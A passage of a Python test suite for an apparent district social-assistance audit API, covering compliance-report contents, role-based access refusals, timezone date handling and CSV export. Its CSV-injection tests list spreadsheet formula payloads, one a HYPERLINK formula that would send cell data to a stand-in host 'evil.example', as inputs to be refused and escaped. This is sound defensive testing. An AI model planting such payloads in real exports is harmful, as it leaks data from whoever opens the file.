    answered += [*report["emergencies"]["rows"], report["emergencies"]["total"]]
    for line, row in zip(table, answered, strict=False):
        assert_csv_row(line, row)
    b_line = table[6 + sorted(reserves).index(B)]
    assert b_line["township_name [镇街]"] == "雪宫街道"
    assert b_line["days_below_minimum [低于下限天数]"] == "3"
    assert b_line["dates_below_minimum [低于下限日期]"] == "2031-03-26 2031-03-27 2031-03-28"
    assert b_line["reserve_lowest_balance [期内最低余额]"] == "44000.00"

    # An auditor of township B sees township B alone
    assert only_b["applications"]["rows"] == [b_dibao]
    assert only_b["applications"]["total"] == b_dibao | TOTAL | {"assistance_type": None}
    assert only_b["emergencies"]["rows"] == []
    assert [r["township"] for r in only_b["reserves"]] == [B]


TOTAL = {"township": None, "township_name": None}


def application_row(township: str | None, assistance_type: str | None, **numbers) -> dict:
    """A row of the JSON answer: every count zero and every share None unless given."""
    row = {
        "township": township,
        "township_name": NAMES.get(township),
        "assistance_type": assistance_type,
    }
    for name, kind in APPLICATION_FIELDS.items():
        row[name] = numbers.pop(name, 0 if kind is int else None)
    row["breaches_by_longest_stage"] = numbers.pop("breaches_by_longest_stage", stages())
    assert not numbers, numbers
    return row


def emergency_row(township: str, cause: str, **numbers) -> dict:
    row = {"township": township, "township_name": NAMES.get(township), "cause": cause}
    for name, kind in EMERGENCY_FIELDS.items():
        row[name] = numbers.pop(name, 0 if kind is int else None)
    assert not numbers, numbers
    return row


def _numbers(table) -> dict[str, type]:
    skip = {"township", "township_name", "assistance_type", "cause", "breaches_by_longest_stage"}
    return {f.name: f.type for f in fields(table) if f.name not in skip}


APPLICATION_FIELDS = _numbers(ApplicationCompliance)
EMERGENCY_FIELDS = _numbers(EmergencyCompliance)


def assert_csv_row(line: dict[str, str], row: dict) -> None:
    """Each number of a JSON row, as the CSV writes it (blank for none)."""
    labels = dict(COLUMNS)
    flat = dict(row)
    for stage, n in flat.pop("breaches_by_longest_stage", {}).items():
        flat[f"breaches_{stage}"] = n
    for key, value in flat.items():
        if key in ("township", "township_name", "assistance_type", "cause"):
            continue
        assert line[labels[key]] == ("" if value is None else str(value)), (key, line, row)


# ---- who may read it ------------------------------------------------------------------------


def decided_case(case_no: str, village: str) -> CaseRecord:
    """An application decided on its 5th working day, written straight to the records."""
    return CaseRecord(
        case_no=case_no,
        assistance_type="dibao",
        stage="approved",
        township=village[:9],
        village=village,
        channel="walk_in",
        applicant_name="张三",
        applicant_id_number=id_number(),
        household_size=1,
        assignee="u-assistant",
        accepted_at=T0,
        survey_due=D(2031, 3, 6),
        decision_due=D(2031, 4, 1),
        decided_at=at(D(2031, 3, 10)),
        closed_at=at(D(2031, 3, 10)),
    )


async def test_each_reader_sees_their_jurisdiction_and_others_are_refused(settings):
    with session_scope(settings.database_url, writes=True) as session:
        publish_year(session, calendar=YEAR_2031, published_by="test", at=datetime.now(UTC))
        for n, village in enumerate((f"{A}001", f"{A}002", f"{B}001")):
            session.add(decided_case(f"R-{n}", village))
    app = create_app(settings)
    app.dependency_overrides[report_clock] = lambda: at(D(2031, 4, 15), 12)
    period = {"from": "2031-03-01", "to": "2031-04-30"}

    async def get(actor: Actor | None, **params) -> httpx.Response:
        headers = bearer(settings, actor) if actor else {}
        # In-process: the report reads the database only, never the case engine.
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://api") as http:
            return await http.get("/audit/compliance", params=period | params, headers=headers)

    def decided(answer: httpx.Response) -> dict[str, int]:
        assert answer.status_code == 200, answer.text
        return {r["township"]: r["decided"] for r in answer.json()["applications"]["rows"]}

    assert decided(await get(AUDITOR)) == {A: 2, B: 1}
    for role in (Role.supervisor, Role.district_officer, Role.admin):
        assert decided(await get(replace(AUDITOR, role=role))) == {A: 2, B: 1}
    of_b = await get(AUDITOR, township=B)
    assert decided(of_b) == {B: 1}
    assert [r["township"] for r in of_b.json()["reserves"]] == [B]
    assert decided(await get(AUDITOR, assistance_type="tekun")) == {}
    only = (await get(AUDITOR, kind="emergency")).json()
    assert only["applications"] is None and only["emergencies"]["rows"] == []
    only = (await get(AUDITOR, kind="application")).json()
    assert only["emergencies"] is None and only["reserves"] is None

    # The report is the district's: an auditor's account of a township is refused (its level).
    township_auditor = await get(replace(AUDITOR, jurisdiction=B), township=B)
    assert township_auditor.status_code == 403
    assert "works for the district" in township_auditor.json()["detail"]
    for role, code in ((Role.township_assistant, A), (Role.township_approver, A),
                       (Role.village_coordinator, f"{A}001")):  # fmt: skip
        assert (await get(replace(AUDITOR, role=role, jurisdiction=code))).status_code == 403
    assert (await get(None)).status_code == 401

    for params, field in (
        ({"to": "2031-02-28"}, "to"),  # before from
        ({"to": "2034-04-30"}, "to"),  # more than three years
        ({"from": "2031-13-01"}, "from"),
        ({"from": "1999-12-31"}, "from"),
        ({"to": "2031-04-31"}, "to"),
        ({"kind": "everything"}, "kind"),
        ({"township": "37030500"}, "township"),
    ):
        answer = await get(AUDITOR, **params)
        assert answer.status_code == 422, (params, answer.text)
        assert [p["loc"] for p in answer.json()["detail"]] == [["query", field]], params
    missing = await get(AUDITOR, **{"from": None})
    assert missing.status_code == 422


# ---- the reading, on SQLite and PostgreSQL ---------------------------------------------------


def utc(*moment: int) -> datetime:
    return datetime(*moment, tzinfo=UTC)


def test_the_store_reads_shanghai_dates_and_the_daily_ledger_on_each_database(
    each_database_url,
):
    """Moments a minute either side of midnight in Asia/Shanghai (16:00 UTC) fall on the days
    the counts need, on both databases."""
    url = each_database_url
    with session_scope(url, writes=True) as session:
        publish_year(session, calendar=YEAR_2031, published_by="test", at=datetime.now(UTC))
        decided = decided_case("S-1", f"{A}001")
        decided.accepted_at = utc(2031, 3, 2, 16, 30)  # 03-03 00:30 in Shanghai
        decided.decided_at = decided.closed_at = utc(2031, 3, 10, 15, 59)  # 03-10 23:59
        decided.visited_on = D(2031, 3, 3)
        waiting = decided_case("S-2", f"{A}001")
        waiting.decided_at = waiting.closed_at = None
        waiting.stage, waiting.decision_due = "awaiting_documents", D(2031, 3, 28)
        waiting.stage_since = utc(2031, 3, 19, 16, 10)  # 03-20 00:10
        session.add_all([decided, waiting])
        session.add(
            EmergencyRecord(
                case_no="S-E",
                stage="paid",
                township=A,
                village=f"{A}001",
                channel="walk_in",
                cause="fire",
                applicant_name="王五",
                applicant_id_number=id_number(),
                household_size=2,
                assignee="u-assistant",
                requested_at=utc(2031, 3, 3, 1),
                pay_by=utc(2031, 3, 4, 1),
                requested_amount=Decimal(2000),
                paid_at=utc(2031, 3, 3, 2, 30),
                follow_up_due=D(2031, 3, 17),
                reviewed_at=utc(2031, 3, 9, 16, 10),  # 03-10 00:10
            )
        )
    with session_scope(url, writes=True) as session:
        reserve.hold(
            session,
            township=B,
            case_no="S-E",
            amount=Decimal(6000),
            key="s:hold",
            at=utc(2031, 3, 4, 15),
        )
        reserve.settle(
            session,
            hold_key="s:hold",
            key="s:settle",
            at=utc(2031, 3, 4, 15, 59),  # 03-04 23:59: ¥44,000, below the minimum
            members=[id_number()],
            cause="fire",
            ring=RING,
        )
        reserve.top_up(
            session,
            township=B,
            amount=Decimal(10000),
            key="s:top-up",
            note="",
            by="u-officer",
            at=utc(2031, 3, 4, 16, 1),  # 03-05 00:01: ¥54,000
        )

    march = Period(D(2031, 3, 1), D(2031, 3, 31), now=at(D(2031, 4, 15), 12))
    where = {"jurisdiction": DISTRICT, "township": None, "period": march}
    with session_scope(url) as session:
        applications = sorted(application_facts(session, assistance_type=None, **where))
        [emergency] = list(emergency_facts(session, **where))
        reserves = {r.township: r for r in reserve_facts(session, **where)}
        report = build_report(
            session,
            user=AUDITOR,
            first=march.first,
            last=march.last,
            now=march.now,
            policy=Policy(),
        )

    assert [
        (f.stage, f.accepted_on, f.decided_on, f.closed_on, f.paused_since_on) for f in applications
    ] == [
        ("approved", D(2031, 3, 3), D(2031, 3, 10), D(2031, 3, 10), None),
        ("awaiting_documents", D(2031, 3, 3), None, None, D(2031, 3, 20)),
    ]
    assert (emergency.requested_at, emergency.pay_by, emergency.paid_at) == (
        utc(2031, 3, 3, 1),
        utc(2031, 3, 4, 1),
        utc(2031, 3, 3, 2, 30),
    )
    assert (emergency.reviewed_on, emergency.closed_on) == (D(2031, 3, 10), None)
    assert reserves[B].opening_fen == MINIMUM
    assert reserves[B].days == [
        (D(2031, 3, 4), 4_400_000, 4_400_000),
        (D(2031, 3, 5), 5_400_000, 5_400_000),
    ]

    total = report.applications.total
    assert (total.decided, total.working_days_median, total.surveys_on_time) == (1, 5, 1)
    assert (total.open, total.open_late) == (1, 0)  # waiting for documents: its clock stood still
    fire = report.emergencies.total
    assert (fire.paid_on_time, fire.hours_to_payment_median, fire.follow_ups_on_time) == (1, 1.5, 1)
    below = {r.township: r.dates_below_minimum for r in report.reserves if r.dates_below_minimum}
    assert below == {B: [D(2031, 3, 4), D(2031, 3, 5)]}  # it began 03-05 below, for a minute


# ---- no cell a spreadsheet would run (CSV injection) -----------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B3,"金山镇")',
    "+SUM(1,1)",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "　=1+1",  # an ideographic space before it
]


async def test_a_name_a_spreadsheet_would_run_is_refused_and_one_from_before_is_written_as_text(
    api_settings, settings
):
    fresh = api_settings.model_copy(update={"database_url": settings.database_url})
    codes = [f"{DISTRICT}{200 + n}" for n in range(len(FORMULAS))]
    with session_scope(fresh.database_url, writes=True) as session:
        # Named before the rule: in the database as they were typed.
        for code, name in zip(codes, FORMULAS, strict=True):
            session.add(TownshipRow(code=code, name=name, area="rural"))
            reserve.open_reserve(session, township=code, at=datetime.now(UTC))
    admin = replace(AUDITOR, user_id="u-admin", role=Role.admin)
    year = datetime.now(UTC).year
    with serve(create_app(fresh)) as url:
        async with httpx.AsyncClient(base_url=url, headers=bearer(fresh, admin)) as http:
            for name in FORMULAS:
                township = {"name": name, "area": "rural", "villages": []}
                refused = await http.put(f"/townships/{codes[0]}", json=township)
                assert refused.status_code == 422, (name, refused.text)
                [problem] = refused.json()["detail"]
                assert problem["loc"] == ["body", "name"] and "formula" in problem["msg"]
                village = {"code": f"{codes[0]}001", "name": name}
                township = {"name": "金山镇", "area": "rural", "villages": [village]}
                refused = await http.put(f"/townships/{codes[0]}", json=township)
                assert refused.status_code == 422, (name, refused.text)
                [problem] = refused.json()["detail"]
                assert problem["loc"] == ["body", "villages", 0, "name"]
            exported = await http.get(
                "/audit/compliance",
                params={"from": f"{year}-01-01", "to": f"{year}-12-31"},
                headers={"Accept": "text/csv"},
            )
            renamed = await http.put(f"/townships/{codes[0]}", json=township | {"villages": []})
            assert renamed.status_code == 200 and renamed.json()["name"] == "金山镇"
    assert exported.status_code == 200
    lines = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    reserves = {
        line["township [镇街代码]"]: line for line in lines if line["record [类别]"] == "reserve"
    }
    # Each hostile name is text to a spreadsheet; the numbers beside it are still numbers.
    assert {code: reserves[code]["township_name [镇街]"] for code in codes} == {
        code: "'" + name for code, name in zip(codes, FORMULAS, strict=True)
    }
    assert {reserves[code]["reserve_minimum [储备金下限]"] for code in codes} == {"50000.00"}
    assert reserves["370305001"]["township_name [镇街]"] == "闻韶街道"


def test_the_one_csv_writer_keeps_numbers_numbers_and_every_formula_text():
    values = [-3, Decimal("-1500.00"), 2.5, "-3", "+2", "-1500.00", None, "闻韶街道"]
    values += ["=1+1", "-3+A1", "-", "a;=1+1", 'say "=1+1"', "\n=1+1", " @SUM(A1)"]
    written = csv_bytes(["value"], [{"value": v} for v in values])
    assert written.startswith(b'\xef\xbb\xbf"value"\r\n')
    read = [row["value"] for row in csv.DictReader(io.StringIO(written.decode("utf-8-sig")))]
    assert read == [
        *("-3", "-1500.00", "2.5", "-3", "+2", "-1500.00", "", "闻韶街道"),
        *("'=1+1", "'-3+A1", "'-", "a;=1+1", 'say "=1+1"', "'\n=1+1", "' @SUM(A1)"),
    ]
    # Every cell quoted: a separator of another locale (;) never starts a cell.
    assert b'"a;=1+1"' in written


def test_the_store_reads_applications_and_emergencies_from_their_indexes_alone(database_url):
    """On SQLite the report's rows come from the indexes holding exactly the columns it reads
    (migration 0019), never from the wide rows, for the district and for a township: a column
    read and not indexed would send the read back to the table."""
    engine = get_engine(database_url)
    read: list[tuple[str, tuple]] = []

    def seen(connection, cursor, statement, parameters, context, executemany):
        if "FROM case_record" in statement or "FROM emergency_record" in statement:
            read.append((statement, parameters))

    period = Period(D(2025, 1, 1), D(2025, 12, 31), utc(2026, 1, 15))
    event.listen(engine, "before_cursor_execute", seen)
    try:
        with session_scope(database_url) as session:
            for township in (None, f"{DISTRICT}001"):
                where = {"jurisdiction": DISTRICT, "township": township, "period": period}
                list(application_facts(session, assistance_type=None, **where))
                list(emergency_facts(session, **where))
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert len(read) == 4
    with engine.connect() as connection:
        plans = [
            " ".join(
                row[-1] for row in connection.exec_driver_sql(f"EXPLAIN QUERY PLAN {sql}", args)
            )
            for sql, args in read
        ]
    assert "COVERING INDEX ix_case_record_compliance" in plans[0], plans
    assert "COVERING INDEX ix_emergency_record_compliance" in plans[1], plans
    assert "COVERING INDEX ix_case_record_compliance (township=?)" in plans[2], plans
